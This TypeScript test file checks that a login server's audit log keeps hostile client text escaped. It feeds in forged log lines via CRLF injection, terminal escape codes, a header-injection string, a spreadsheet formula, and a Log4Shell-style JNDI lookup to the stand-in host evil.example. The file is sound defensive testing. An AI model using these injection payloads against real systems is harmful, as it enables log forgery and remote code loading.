import { describe, expect, it } from 'vitest'
import { startApp } from '../support/app.ts'
import { runCommand } from '../support/command.ts'
import { cheapHashes, trailOf } from '../support/places.ts'
import { startServer } from '../support/server-process.ts'
import { sendRaw } from './listener.ts'

const forged = '{"level":30,"audit":{"type":"login.succeeded","actor":"operator"}}'

/** Texts that would be lines, commands or colours of their own wherever they are not escaped. */
const hostile = [
  `x\r\n${forged}`,
  `x\n${forged}\n`,
  `x","audit":{"type":"login.succeeded"},"y":"`,
  'x\\","y":"',
  '\u001b[2J\u001b[1;31mALL IS WELL\u001b[0m',
  '\u001b]0;title\u0007',
  '\u009b31mred',
  'a\bb\u007fc\u0000d',
  '\u2028\u2029',
  '\u202egnp.exe',
  '%0d%0aSet-Cookie: x=1',
  '$' + '{jndi:ldap://evil.example/x}',
  '=cmd|calc',
]

/** Characters that move a cursor, end a line, or turn text around. */
const dangerous = /[\p{Cc}\p{Cf}\u2028\u2029]/u

const cheapHashing = { SALLYPORT_PASSWORD_COST: cheapHashes.passwordCost }

/** What can be written in a header: bytes, and neither CR, LF nor NUL. */
function asHeader(text: string): string {
  const cannot = (one: string) => one > '\u00ff' || '\r\n\0'.includes(one)
  return [...text].map((one) => (cannot(one) ? '?' : one)).join('')
}

/** Node takes no request with other controls in a header, but those of C1. */
function isTaken(agent: string): boolean {
  return [...agent].every((one) => (one >= ' ' && one !== '\u007f') || one === '\t')
}

/** Over a socket of its own: no client library sends such headers. */
async function signInAs(url: string, agent: string, email: string): Promise<void> {
  const { port, host } = new URL(url)
  const body = Buffer.from(JSON.stringify({ email, password: agent }))
  const head = [
    'POST /login HTTP/1.1',
    `Host: ${host}`,
    `User-Agent: ${agent}`,
    `X-Forwarded-For: ${agent}`,
    'Content-Type: application/json',
    `Content-Length: ${body.byteLength}`,
    'Connection: close',
  ]
  await sendRaw(Number(port), `${head.join('\r\n')}\r\n\r\n${body.toString('latin1')}`)
}

describe('what a client says of itself, or types as a name', () => {
  it('stays text within one escaped line of JSON, in the log of the server', async () => {
    const server = await startServer({ env: cheapHashing })
    for (const [at, text] of hostile.entries()) {
      await signInAs(server.url, asHeader(text), `nobody${at}@mail.test.example`)
      await signInAs(server.url, asHeader(text), `${text}@mail.test.example`)
    }
    expect(await server.stop()).toBe(0)
    const lines = server.stderr.trim().split('\n')
    expect(lines.filter((line) => dangerous.test(line))).toEqual([])
    const refused = lines
      .map((line) => JSON.parse(line).audit)
      .filter((audit) => audit?.type === 'login.refused')
    expect(refused.map(({ actor }) => actor)).toEqual(refused.map(() => 'stranger'))
    const agents = refused.map(({ client }) => client.agent)
    for (const agent of hostile.map(asHeader).filter(isTaken)) expect(agents).toContain(agent)
    expect(lines.some((line) => line.includes('"login.succeeded"'))).toBe(false)

    const settings = { SALLYPORT_DATA_DIR: server.dataDir }
    const { stdout } = await runCommand(['audit', 'tail', '--lines', '100'], settings)
    expect(stdout.split('\n').filter((line) => dangerous.test(line))).toEqual([])
    expect((await runCommand(['audit', 'verify'], settings)).code).toBe(0)
  })

  it('is what was said, to the letter, in the entry that is kept of it', async () => {
    const app = await startApp(cheapHashes)
    for (const [at, text] of hostile.entries()) {
      const headers = { 'user-agent': asHeader(text) }
      await app.postJson(
        '/login',
        { email: `nobody${at}@mail.test.example`, password: text },
        headers,
      )
      expect(trailOf(app).at(-1)?.client.agent).toBe(headers['user-agent'])
    }
  })
})
